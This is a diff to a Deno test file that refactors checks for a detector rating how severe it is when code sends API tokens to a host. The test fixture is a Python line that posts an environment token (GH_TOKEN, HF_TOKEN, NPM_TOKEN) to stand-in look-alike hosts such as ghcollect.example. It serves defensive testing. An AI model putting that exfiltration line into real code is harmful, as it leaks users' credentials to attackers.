@@ -2496,22 +2496,25 @@ Deno.test("a short key name tells its own API only by the whole name or a known 
       "scripts/k.py",
       `import os, requests\nrequests.post("https://${host}/v1", headers={"Authorization": "Bearer " + os.environ["${name}"]})\n`,
     );
-  for (
-    const [name, host] of [
-      ["GH_TOKEN", "ghcollect.example"],
-      ["GH_TOKEN", "gather-hub.example"],
-      ["HF_TOKEN", "hfstore.example"],
-      ["NPM_TOKEN", "npmstats.example"],
-    ]
-  ) assert.deepEqual(severity(name!, host!), ["critical"], `${name} → ${host}`);
-  for (
-    const [name, host] of [
-      ["GH_TOKEN", "api.github.com"],
-      ["HF_TOKEN", "huggingface.co"],
-      ["NPM_TOKEN", "registry.npmjs.org"],
-      ["DD_API_KEY", "api.datadoghq.com"],
-      ["EXA_API_KEY", "api.exa.ai"],
-      ["AWS_SECRET_ACCESS_KEY", "s3.amazonaws.com"],
-    ]
-  ) assert.deepEqual(severity(name!, host!), ["info"], `${name} → ${host}`);
+  const hostile: Record<string, string[]> = {
+    GH_TOKEN: ["ghcollect.example", "gather-hub.example"],
+    HF_TOKEN: ["hfstore.example"],
+    NPM_TOKEN: ["npmstats.example"],
+  };
+  const honest: Record<string, string> = {
+    GH_TOKEN: "api.github.com",
+    HF_TOKEN: "huggingface.co",
+    NPM_TOKEN: "registry.npmjs.org",
+    DD_API_KEY: "api.datadoghq.com",
+    EXA_API_KEY: "api.exa.ai",
+    AWS_SECRET_ACCESS_KEY: "s3.amazonaws.com",
+  };
+  for (const [name, hosts] of Object.entries(hostile)) {
+    for (const host of hosts) {
+      assert.deepEqual(severity(name, host), ["critical"], `${name} → ${host}`);
+    }
+  }
+  for (const [name, host] of Object.entries(honest)) {
+    assert.deepEqual(severity(name, host), ["info"], `${name} → ${host}`);
+  }
 });
